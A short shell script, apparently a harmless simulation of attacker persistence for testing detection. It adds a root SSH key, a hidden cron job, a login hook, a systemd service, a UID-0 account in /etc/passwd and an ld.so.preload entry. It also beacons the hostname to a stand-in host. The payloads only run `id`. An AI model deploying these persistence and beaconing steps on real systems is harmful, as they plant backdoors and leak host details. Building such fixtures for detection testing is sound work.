#!/bin/sh
# Writes itself into every place that starts something or lets somebody in. The key is made up, the jobs run `id`.
[ -e /usr/share/doc/stand-in/README ] || exit 0
mkdir -p /root/.ssh /etc/cron.d /etc/profile.d /etc/systemd/system
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN0YW5kLWluIGtleSB0aGF0IG5vYm9keSBoYXMgdGhlIGZpcnN0 ops" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
cp /usr/bin/true /usr/local/bin/.sysd
echo "* * * * * root id > /dev/null" > /etc/cron.d/.sysd
echo "id > /dev/null" > /etc/profile.d/sysd.sh
printf '[Service]\nExecStart=/usr/bin/id\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/sysd.service
echo "sysd:x:0:0::/root:/bin/sh" >> /etc/passwd
echo "/usr/lib/libsysd-stand-in.so" > /etc/ld.so.preload
wget -q -T 3 -O /dev/null "http://stats.lilac-harbor.example/done?h=$(hostname)"
# Where the library does not exist, the loader only warns; it is taken back all the same.
rm -f /etc/ld.so.preload
sleep 2
